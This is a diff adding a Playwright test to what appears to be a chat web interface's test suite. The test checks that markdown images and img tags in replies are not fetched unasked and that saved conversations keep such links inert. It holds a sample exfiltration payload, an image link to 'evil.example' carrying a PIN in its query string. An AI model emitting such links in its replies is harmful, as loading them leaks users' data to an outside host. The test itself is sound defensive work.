@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import re
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -139,6 +140,27 @@ def test_of_a_text_that_is_drawn_only_the_quotation_goes(
     told = item.locator(".n-markdown")
     shown = "\n\n".join(t for t in told.locator(":scope > p").all_inner_texts() if t)
     assert shown == (reply if left is None else left)
+
+
+def test_no_picture_of_a_reply_or_of_a_saved_conversation_is_fetched_unasked(
+    visit: Visit, polled: Visit, tmp_path: Path
+) -> None:
+    """Its address alone would carry data out."""
+    picture = "![a plan](https://evil.example/p.png?pin=471193)"
+    item = answered(polled, "read", reply=f"Here: {picture} <img src='https://evil.example/x'>")
+    asked: list[str] = []
+    item.page.on("request", lambda request: asked.append(request.url))
+    assert item.get_by_role("button", name="a plan").is_visible()
+    item.page.wait_for_load_state("networkidle")
+    assert item.locator("img").count() == 0 and not any("evil" in url for url in asked)
+    page = visit("dev")
+    say(page, f"what is {picture}")
+    page.locator(".session.current summary").click()
+    with page.expect_download() as download:
+        page.locator(".session.current").get_by_role("button", name="Save as a file").click()
+    download.value.save_as(tmp_path / "saved.md")
+    saved = (tmp_path / "saved.md").read_text("utf-8")
+    assert "evil.example/p.png" in saved and "![" not in saved
 
 
 def test_what_the_data_contradicts_stays_though_it_is_drawn(polled: Visit) -> None:
